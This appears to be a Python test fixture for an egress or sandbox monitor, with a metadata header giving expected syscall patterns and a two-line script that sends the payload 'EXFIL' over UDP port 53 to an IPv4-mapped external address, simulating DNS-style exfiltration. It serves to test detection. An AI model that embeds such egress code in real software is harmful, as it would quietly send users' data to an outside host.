#: {"class": "egress", "loader": "script", "expect": [["sendto|sendmsg|sendmmsg|send|connect|udp", "203\\.0\\.113\\.7.*53"]], "effect": {"sink": ["dns", "EXFIL"]}}
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b"EXFIL", ("::ffff:" + EXT, 53))
